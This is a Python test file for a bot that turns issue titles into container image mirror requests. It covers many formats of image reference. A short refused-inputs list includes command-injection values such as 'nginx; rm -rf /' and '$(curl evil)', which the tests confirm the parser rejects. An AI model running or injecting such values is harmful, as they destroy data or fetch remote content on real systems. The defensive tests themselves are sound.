"""Request parsing: what users really type into issue titles (peer trackers' failures)."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.request import parse_request

MIRROR = "m.example.io"

# (title, body, expected sources, expected platforms)
TITLES = [
    ("nginx", "", ["docker.io/library/nginx:latest"], []),
    ("docker.io/library/ubuntu:24.04", "", ["docker.io/library/ubuntu:24.04"], []),
    ("  nginx:1.27  ", "", ["docker.io/library/nginx:1.27"], []),
    ("`nginx:1.27`", "", ["docker.io/library/nginx:1.27"], []),
    ("'redis:7'", "", ["docker.io/library/redis:7"], []),
    ('"redis:7"', "", ["docker.io/library/redis:7"], []),
    ("“redis:7”", "", ["docker.io/library/redis:7"], []),
    ("docker pull nginx:1.27", "", ["docker.io/library/nginx:1.27"], []),
    ("sudo docker pull nginx", "", ["docker.io/library/nginx:latest"], []),
    ("podman pull quay.io/prometheus/node-exporter:v1.8.0", "",
     ["quay.io/prometheus/node-exporter:v1.8.0"], []),
    ("nerdctl pull ghcr.io/fluxcd/flux-cli:v2.4.0", "", ["ghcr.io/fluxcd/flux-cli:v2.4.0"], []),
    ("crictl pull registry.k8s.io/pause:3.9", "", ["registry.k8s.io/pause:3.9"], []),
    ("ctr -n k8s.io images pull docker.io/library/busybox:1.36", "",
     ["docker.io/library/busybox:1.36"], []),
    ("https://docker.io/library/nginx:1.27", "", ["docker.io/library/nginx:1.27"], []),
    ("http://ghcr.io/acme/app:v1", "", ["ghcr.io/acme/app:v1"], []),
    ("docker://quay.io/acme/app:v1", "", ["quay.io/acme/app:v1"], []),
    ("https://hub.docker.com/r/bitnami/redis", "", ["docker.io/bitnami/redis:latest"], []),
    ("https://hub.docker.com/r/bitnami/redis/tags", "", ["docker.io/bitnami/redis:latest"], []),
    ("hub.docker.com/_/nginx", "", ["docker.io/library/nginx:latest"], []),
    ("https://hub.docker.com/_/nginx/", "", ["docker.io/library/nginx:latest"], []),
    ("https://hub.docker.com/layers/library/nginx/1.27/images/sha256-abc", "",
     ["docker.io/library/nginx:1.27"], []),
    ("https://quay.io/repository/prometheus/alertmanager", "",
     ["quay.io/prometheus/alertmanager:latest"], []),
    ("m.example.io/docker.io/library/nginx", "", ["docker.io/library/nginx:latest"], []),
    ("m.example.io/ghcr.io/fluxcd/flux-cli:v2.4.0", "", ["ghcr.io/fluxcd/flux-cli:v2.4.0"], []),
    ("docker pull m.example.io/docker.io/library/redis:7", "", ["docker.io/library/redis:7"], []),
    ("nginx --platform=linux/arm64", "", ["docker.io/library/nginx:latest"], ["linux/arm64"]),
    ("nginx --platform linux/arm64", "", ["docker.io/library/nginx:latest"], ["linux/arm64"]),
    ("docker pull --platform=linux/arm64 nginx:1.27", "", ["docker.io/library/nginx:1.27"],
     ["linux/arm64"]),
    ("nginx linux/arm64", "", ["docker.io/library/nginx:latest"], ["linux/arm64"]),
    ("nginx linux/amd64,linux/arm64", "", ["docker.io/library/nginx:latest"],
     ["linux/amd64", "linux/arm64"]),
    ("nginx --platform=linux/amd64,linux/arm/v7", "", ["docker.io/library/nginx:latest"],
     ["linux/amd64", "linux/arm/v7"]),
    ("nginx linux/x86_64", "", ["docker.io/library/nginx:latest"], ["linux/amd64"]),
    ("nginx", "please mirror for my pi\n--platform=linux/arm64", ["docker.io/library/nginx:latest"],
     ["linux/arm64"]),
    ("nginx redis", "", ["docker.io/library/nginx:latest", "docker.io/library/redis:latest"], []),
    ("nginx, redis:7", "", ["docker.io/library/nginx:latest", "docker.io/library/redis:7"], []),
    ("nginx,redis", "", ["docker.io/library/nginx:latest", "docker.io/library/redis:latest"], []),
    ("nginx nginx:latest docker.io/library/nginx", "", ["docker.io/library/nginx:latest"], []),
    ("[sync] nginx:1.27", "", ["docker.io/library/nginx:1.27"], []),
    ("sync image: nginx:1.27", "", ["docker.io/library/nginx:1.27"], []),
    ("mirror: ghcr.io/acme/app", "", ["ghcr.io/acme/app:latest"], []),
    ("Request", "### Image\n\nnginx:1.27\n\n### Platform\n\nlinux/arm64\n",
     ["docker.io/library/nginx:1.27"], ["linux/arm64"]),
    ("nginx:1.27", "### Platform\n\nAll platforms\n\n### Notes\n\n_No response_\n",
     ["docker.io/library/nginx:1.27"], []),
    ("x", "### Image\n\nnginx\nredis\n\n### Platform\n\n_No response_",
     ["docker.io/library/nginx:latest", "docker.io/library/redis:latest"], []),
    ("nginx@sha256:" + "b" * 64, "", ["docker.io/library/nginx@sha256:" + "b" * 64], []),
    ("registry.k8s.io/kube-apiserver:v1.31.0", "", ["registry.k8s.io/kube-apiserver:v1.31.0"], []),
]

REFUSED = [
    ("Nginx", "lowercase"),
    ("nginx -a", "command-line option"),
    ("--src-creds=user:pass nginx", "command-line option"),
    ("nginx; rm -rf /", "not a valid"),
    ("$(curl evil)", "not a valid"),
    ("", "no image name found"),
    ("   ", "no image name found"),
    ("nginx\u202eexe", "non-ASCII"),
    ("a//b", "empty path component"),
]


@pytest.mark.parametrize(("title", "body", "sources", "platforms"), TITLES)
def test_realistic_titles(title: str, body: str, sources: list[str], platforms: list[str]) -> None:
    request = parse_request(title, body, [MIRROR])
    assert [str(r) for r in request.references] == sources
    assert all(image.error is None for image in request.images)
    assert [str(p) for p in request.platforms] == platforms


@pytest.mark.parametrize(("title", "reason"), REFUSED)
def test_refused_titles_say_why(title: str, reason: str) -> None:
    images = parse_request(title, "", [MIRROR]).images
    assert any(image.error and reason in image.error for image in images), images


def test_more_images_than_the_limit_are_refused_beyond_it() -> None:
    request = parse_request(" ".join(f"img{i}" for i in range(5)), "", max_images=3)
    assert len(request.references) == 3
    assert [i.error for i in request.images[3:]] == [
        "more than 3 images in one issue; open another issue for the remaining 2"] * 2


def test_bad_platform_is_reported() -> None:
    request = parse_request("nginx --platform=linux", "")
    assert request.problems and "not a platform" in request.problems[0]


def test_platform_flag_without_a_value_is_reported() -> None:
    request = parse_request("nginx --platform", "")
    assert [str(r) for r in request.references] == ["docker.io/library/nginx:latest"]
    assert request.problems == ("--platform needs a value (write --platform=linux/arm64)",)


def test_huge_title_is_refused_quickly() -> None:
    request = parse_request("a" * 65536, "")
    assert request.images[0].error and "longer than" in request.images[0].error


@given(st.text(max_size=500), st.text(max_size=500))
def test_parsing_never_raises(title: str, body: str) -> None:
    request = parse_request(title, body, [MIRROR])
    for image in request.images:
        assert (image.reference is None) != (image.error is None)
